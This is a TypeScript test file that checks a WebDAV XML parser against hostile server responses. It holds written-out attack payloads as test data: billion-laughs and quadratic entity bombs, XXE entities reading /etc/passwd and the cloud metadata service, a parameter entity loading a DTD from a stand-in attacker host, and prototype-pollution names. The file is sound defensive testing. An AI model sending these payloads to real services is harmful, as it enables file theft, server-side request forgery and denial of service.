/**
 * The WebDAV XML reader (lib/nextcloud/parse-xml.ts) against what a hostile
 * or broken DAV server could answer: entity expansion (billion laughs,
 * quadratic blowup), external entities (XXE), parameter entities, deep
 * nesting, huge and many attributes, prototype names — each refused (or read
 * as plain data) quickly and without expanding anything. The same bodies are
 * measured against fast-xml-parser in scripts/bench/xml-parsers.ts.
 */
import { describe, expect, it } from "vitest";
import { NextcloudRequestError } from "@/lib/nextcloud/nextcloud-request";
import { parseMultistatus } from "@/lib/nextcloud/parse-multistatus";
import { MAX_ATTRIBUTES, parseXml, XmlParseError } from "@/lib/nextcloud/parse-xml";

const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`).join("")}]><d:multistatus xmlns:d="DAV:"><d:response><d:href>&lol9;</d:href></d:response></d:multistatus>`;

/** Runs `parse` and returns how long it took; fails the test if it did not throw XmlParseError matching `reason`. */
function refusedWithin(input: string, reason: RegExp): number {
  const start = performance.now();
  let error: unknown;
  try {
    parseXml(input);
  } catch (e) {
    error = e;
  }
  const ms = performance.now() - start;
  expect(error).toBeInstanceOf(XmlParseError);
  expect((error as Error).message).toMatch(reason);
  return ms;
}

describe("parseXml against attack bodies", () => {
  it.each([
    ["billion laughs (nested internal entities)", laughs],
    ["quadratic blowup (one 50 KB entity used 2,000 times)", `<!DOCTYPE d [<!ENTITY a "${"a".repeat(50_000)}">]><d:multistatus xmlns:d="DAV:"><d:href>${"&a;".repeat(2_000)}</d:href></d:multistatus>`],
    ["external entity (XXE, file:)", `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><d:multistatus xmlns:d="DAV:"><d:href>&xxe;</d:href></d:multistatus>`],
    ["external entity (XXE, http: to the metadata service)", `<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><d:multistatus xmlns:d="DAV:">&xxe;</d:multistatus>`],
    ["parameter entity", `<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><d:multistatus xmlns:d="DAV:"/>`],
    ["DOCTYPE after a comment and whitespace", `<!-- hi -->\n  <!DOCTYPE d><d:multistatus xmlns:d="DAV:"/>`],
  ])("refuses %s without expanding anything", (_name, input) => {
    expect(refusedWithin(input, /DOCTYPE and entity declarations/)).toBeLessThan(500);
  });

  it("refuses an entity reference nobody declared (no lookup anywhere)", () => {
    refusedWithin(`<d:multistatus xmlns:d="DAV:"><d:href>&xxe;</d:href></d:multistatus>`, /undefined entity/);
    refusedWithin(`<d:multistatus xmlns:d="DAV:" a="&nbsp;"/>`, /undefined entity/);
  });

  it("refuses character references outside Unicode", () => {
    refusedWithin(`<d:multistatus xmlns:d="DAV:">&#x110000;</d:multistatus>`, /bad character reference/);
    refusedWithin(`<d:multistatus xmlns:d="DAV:">&#99999999;</d:multistatus>`, /bad character reference/);
  });

  it("refuses 100,000 levels of nesting at the depth limit, fast, without recursion", () => {
    expect(refusedWithin(`${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}`, /nested too deeply/)).toBeLessThan(1_000);
  });

  it("refuses more attributes than a WebDAV element ever has, and a repeated one", () => {
    const many = `<d:multistatus xmlns:d="DAV:" ${Array.from({ length: 200_000 }, (_, i) => `a${i}="1"`).join(" ")}/>`;
    expect(refusedWithin(many, /too many attributes/)).toBeLessThan(1_000);
    const justEnough = `<d:multistatus xmlns:d="DAV:" ${Array.from({ length: MAX_ATTRIBUTES - 1 }, (_, i) => `a${i}="1"`).join(" ")}/>`;
    expect(Object.keys(parseXml(justEnough).attributes)).toHaveLength(MAX_ATTRIBUTES - 1);
    refusedWithin(`<d:multistatus xmlns:d="DAV:" a="1" a="2"/>`, /repeated attribute/);
    // The same attribute under two prefixes of one namespace is the same attribute (Namespaces in XML §6.3).
    refusedWithin(`<d:multistatus xmlns:d="DAV:" xmlns:e="DAV:" d:a="1" e:a="2"/>`, /repeated attribute/);
  });

  it("reads a huge attribute or text linearly, and refuses a body over the size limit", () => {
    const huge = `<d:multistatus xmlns:d="DAV:" x="${"a".repeat(4 * 1024 * 1024)}">${"b".repeat(3 * 1024 * 1024)}</d:multistatus>`;
    const start = performance.now();
    const root = parseXml(huge);
    expect(performance.now() - start).toBeLessThan(2_000);
    expect(root.attributes.x).toHaveLength(4 * 1024 * 1024);
    expect(root.text).toHaveLength(3 * 1024 * 1024);
    refusedWithin(`<d:multistatus xmlns:d="DAV:">${"a".repeat(8 * 1024 * 1024)}</d:multistatus>`, /too large/);
  });

  it("refuses an unterminated comment, CDATA or tag of megabytes quickly", () => {
    refusedWithin(`<d:multistatus xmlns:d="DAV:"><!--${"-".repeat(4 * 1024 * 1024)}`, /unterminated comment/);
    refusedWithin(`<d:multistatus xmlns:d="DAV:"><![CDATA[${"x".repeat(4 * 1024 * 1024)}`, /unterminated CDATA/);
    refusedWithin(`<d:multistatus xmlns:d="DAV:"><d:href x="${"y".repeat(4 * 1024 * 1024)}`, /bad attribute/);
  });

  it("treats __proto__ and constructor as plain names: no prototype is touched", () => {
    const root = parseXml(`<d:multistatus xmlns:d="DAV:" __proto__="polluted" constructor="c" toString="t"><__proto__>x</__proto__></d:multistatus>`);
    expect(root.attributes.__proto__).toBe("polluted");
    expect(root.attributes.constructor).toBe("c");
    expect(Object.getPrototypeOf(root.attributes)).toBeNull();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype.toString.call({})).toBe("[object Object]");
    expect(root.children[0]).toMatchObject({ local: "__proto__", text: "x" });
  });

  it("an attack body in a PROPFIND answer is a readable NextcloudRequestError, not a crash", () => {
    expect(() => parseMultistatus(laughs, "alice")).toThrow(NextcloudRequestError);
    expect(() => parseMultistatus(laughs, "alice")).toThrow("not valid XML");
  });
});
